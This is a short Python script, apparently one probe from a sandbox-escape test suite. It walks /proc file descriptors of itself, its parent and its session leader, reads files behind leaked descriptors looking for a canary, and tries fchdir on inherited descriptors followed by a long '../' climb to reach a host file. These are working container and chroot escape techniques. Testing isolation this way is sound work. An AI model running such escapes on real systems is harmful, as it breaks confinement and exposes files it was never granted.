# Finds descriptors that the server, the daemon or the shell has let through: files to read, directories to climb from.
# control: outside
import os
import stat

from attack import attempt, canary, given, read


def descriptors(process):
    found = []
    for name in os.listdir("/proc/%s/fd" % process):
        try:
            found.append((name, os.readlink("/proc/%s/fd/%s" % (process, name))))
        except OSError:
            pass
    return found


def contents(process):
    for name, _ in descriptors(process):
        try:
            found = os.stat("/proc/%s/fd/%s" % (process, name))
            token = stat.S_ISREG(found.st_mode) and canary(read("/proc/%s/fd/%s" % (process, name)))
        except OSError:
            continue
        if token:
            return token
    return None


def directories(process):
    for name, target in descriptors(process):
        if os.path.isdir("/proc/%s/fd/%s" % (process, name)) and not target.endswith("/fd"):
            return target
    return None


def climb():
    for number in range(3, 1024):
        try:
            os.fchdir(number)
            return canary(read("../" * 40 + given("host.file")[1:]))
        except OSError:
            continue
    return None


steps = []
for process in ("self", os.getppid(), os.getsid(0)):
    steps.append(("files of %s" % process, lambda process=process: contents(process)))
    steps.append(("directories of %s" % process, lambda process=process: directories(process)))
attempt(*steps, ("a climb", climb))
